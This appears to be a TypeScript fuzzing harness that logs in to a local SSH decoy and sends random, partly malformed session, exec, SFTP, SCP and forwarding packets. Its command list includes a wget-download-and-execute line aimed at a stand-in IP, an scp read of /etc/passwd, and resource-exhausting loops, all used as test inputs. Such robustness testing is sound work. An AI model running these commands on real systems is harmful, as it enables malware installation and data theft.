import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import ssh2 from 'ssh2'
import { alter, type Random } from './decoy-noise.js'

/** A login that the decoy accepts. */
export interface SshLogin {
  username: string
  password: string
}

/** Numbers of messages (RFC 4253, 4254). */
const DATA = 94
const GLOBAL_REQUEST = 80
const CHANNEL_OPEN = 90
const CHANNEL_REQUEST = 98
/** Channels that packets name: those that are open, as the decoy numbers them, and some that are not. */
const CHANNELS = 12
const MAX_PACKETS = 60
/** A packet of SSH has 35,000 bytes at most; ssh2 takes 256 KiB. */
const HUGE = 200_000
/** The decoy answers for so long at most before the client goes. */
const PATIENCE_MS = 400
const READY_MS = 20_000

const COMMANDS = [
  'id; uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'scp -t /tmp',
  'scp -r -t /root',
  'scp -f /etc/passwd',
  'scp -f /nowhere',
  'cat > /tmp/x',
  'sh',
  'dd if=/dev/zero of=/tmp/z bs=1M count=9',
  'while :; do echo a; done',
  'cd /tmp; wget http://192.0.2.1/x; chmod +x x; ./x',
  '$(($(($(($((1))))))))',
  "echo 'never closed",
  '',
]
const TEXTS = [
  'C0644 5 name\nhello\0',
  'C0644 999999999999999 large\n',
  'C0644 -1 ../../../x\n',
  'D0755 0 folder\n',
  'E\nE\nE\n',
  'T1700000000 0 1700000000 0\n',
  '\0\0\0\0',
  'id\rcat\rls -la | sort\r',
  '\u001b[A\u001b[H\u007f\u0003\u0004',
  'exit\n',
]
const NAMES = ['sftp', 'netconf', 'publickey@example.com', '../../sftp', '']
const PATHS = ['.', '/', '/etc/passwd', '/tmp/x', '/root/../../..', '/tmp/\0', '']

/** Makes packets behind a login, each from the numbers that follow. */
const PACKETS: ReadonlyArray<(random: Random) => Buffer> = [
  openSession,
  openSession,
  (random) => request(random, 'exec', text(one(COMMANDS, random))),
  (random) => request(random, 'exec', text('a'.repeat(random(HUGE)))),
  (random) => request(random, 'shell'),
  (random) =>
    request(random, 'pty-req', text('xterm'), ...numbers(4, random), text(bytes(random(64), random))),
  (random) => request(random, 'window-change', ...numbers(4, random)),
  (random) => request(random, 'env', text(`NAME${random(99)}`), text('v'.repeat(random(9_000)))),
  (random) => request(random, 'subsystem', text(one(NAMES, random))),
  (random) => request(random, 'subsystem', text('sftp')),
  (random) => request(random, 'signal', text(one(['KILL', 'INT', 'x'], random))),
  (random) => request(random, 'x11-req', flag(random), text('MIT-MAGIC-COOKIE-1'), text('00'), number(0)),
  (random) => request(random, 'auth-agent-req@openssh.com'),
  (random) =>
    request(random, one(['eow@openssh.com', 'exit-status', '', 'é'], random), ...numbers(1, random)),
  (random) => data(random, text(one(TEXTS, random).repeat(1 + random(200)))),
  (random) => data(random, text(bytes(random(30_000), random))),
  (random) => data(random, text(sftpPacket(random))),
  (random) =>
    data(random, text(Buffer.concat(Array.from({ length: 1 + random(40) }, () => sftpPacket(random))))),
  // Extended data, a larger window, the end of input, and of the channel.
  (random) => packet(95, number(random(CHANNELS)), number(random(3)), text(bytes(random(2_000), random))),
  (random) => packet(93, number(random(CHANNELS)), ...numbers(1, random)),
  (random) => packet(96, number(random(CHANNELS))),
  (random) => packet(97, number(random(CHANNELS))),
  (random) =>
    open(random, 'direct-tcpip', text('198.51.100.7'), ...numbers(1, random), text('::1'), number(1)),
  (random) =>
    open(random, 'direct-streamlocal@openssh.com', text('/var/run/docker.sock'), text(''), number(0)),
  (random) =>
    open(random, one(['x11', 'forwarded-tcpip', 'auth-agent@openssh.com', 'no'], random), text('a')),
  (random) =>
    packet(
      GLOBAL_REQUEST,
      text(one(['tcpip-forward', 'cancel-tcpip-forward'], random)),
      flag(random),
      text('0.0.0.0'),
      ...numbers(1, random),
    ),
  (random) =>
    packet(
      GLOBAL_REQUEST,
      text('streamlocal-forward@openssh.com'),
      flag(random),
      text('/tmp/s'.repeat(random(50))),
    ),
  (random) =>
    packet(GLOBAL_REQUEST, text(one(['no-more-sessions@openssh.com', 'k@x'], random)), flag(random)),
  // Messages of the transport, of the login, and none.
  (random) => packet(1 + random(255), bytes(random(200), random)),
]

/**
 * Logs in, sends packets of sessions, commands, file transfers and forwarding, some of them broken, and goes in one of the ways in which
 * clients do. @returns bytes that were sent behind the login; 0 where there was none.
 */
export async function sendBehindLogin(
  port: number,
  localAddress: string,
  { username, password }: SshLogin,
  random: Random,
): Promise<number> {
  const socket = connect({ port, host: '127.0.0.1', localAddress })
  socket.on('error', () => {})
  const client = new ssh2.Client()
  client.on('error', () => {})
  const closed = once(socket, 'close').catch(() => {})
  const ready = new Promise<boolean>((resolve) => {
    client.once('ready', () => resolve(true)).once('close', () => resolve(false))
  })
  client.connect({ sock: socket, username, password, readyTimeout: READY_MS })
  const sent = (await ready) ? await sendPackets(client, random) : 0
  await Promise.race([closed, sleep(random(PATIENCE_MS))])
  if (random(2) === 0) client.end()
  if (random(2) === 0) socket.resetAndDestroy()
  else socket.destroy()
  await closed
  return sent
}

/** What ssh2 encrypts with, of which its types know nothing. */
interface Cipher {
  allocPacket(payloadBytes: number): Buffer
  encrypt(packet: Buffer): void
}
const PAYLOAD_AT = 5

async function sendPackets(client: ssh2.Client, random: Random): Promise<number> {
  const { _protocol } = client as unknown as { _protocol: { _cipher: Cipher } }
  const breaksAny = random(2) === 0
  let sent = 0
  const send = (payload: Buffer) => {
    const { _cipher: cipher } = _protocol
    const whole = cipher.allocPacket(payload.length)
    payload.copy(whole, PAYLOAD_AT)
    cipher.encrypt(whole)
    sent += payload.length
  }
  send(openSession(random))
  for (let left = random(MAX_PACKETS); left > 0; left -= 1) {
    const payload = one(PACKETS, random)(random)
    // A packet that is broken ends most connections.
    send(breaksAny && random(10) === 0 ? alter(payload, random).subarray(0, HUGE) : payload)
    if (random(4) === 0) await new Promise(setImmediate)
  }
  return sent
}

function openSession(random: Random): Buffer {
  return open(random, 'session')
}

function open(random: Random, kind: string, ...rest: readonly Buffer[]): Buffer {
  const window = number(random(4) === 0 ? random(2 ** 32) : 2 ** 21)
  return packet(CHANNEL_OPEN, text(kind), number(random(CHANNELS)), window, number(32_768), ...rest)
}

function request(random: Random, kind: string, ...rest: readonly Buffer[]): Buffer {
  return packet(CHANNEL_REQUEST, number(random(CHANNELS)), text(kind), flag(random), ...rest)
}

function data(random: Random, content: Buffer): Buffer {
  return packet(DATA, number(random(CHANNELS)), content)
}

/** Of draft-ietf-secsh-filexfer-02: a length, a type, a number, a path or handle, and what each type has beyond. */
function sftpPacket(random: Random): Buffer {
  const type = random(8) === 0 ? random(256) : 1 + random(20)
  const subject = text(random(2) === 0 ? one(PATHS, random) : number(random(4)))
  const rest = [...numbers(random(5), random), text(bytes(random(3_000), random))]
  const content = packet(type, number(random(5)), subject, ...rest)
  const stated = random(12) === 0 ? random(2 ** 32) : content.length
  return Buffer.concat([number(stated), content])
}

function packet(type: number, ...parts: readonly Buffer[]): Buffer {
  return Buffer.concat([Buffer.from([type]), ...parts])
}

function number(value: number): Buffer {
  const four = Buffer.alloc(4)
  four.writeUInt32BE(value)
  return four
}

function numbers(count: number, random: Random): Buffer[] {
  return Array.from({ length: count }, () => number(random(2) === 0 ? random(200) : random(2 ** 32)))
}

function text(content: string | Buffer): Buffer {
  const whole = Buffer.from(content)
  return Buffer.concat([number(whole.length), whole])
}

function flag(random: Random): Buffer {
  return Buffer.from([random(2)])
}

function bytes(count: number, random: Random): Buffer {
  return Buffer.from(Array.from({ length: count }, () => random(256)))
}

function one<T>(choices: readonly T[], random: Random): T {
  return choices[random(choices.length)] as T
}
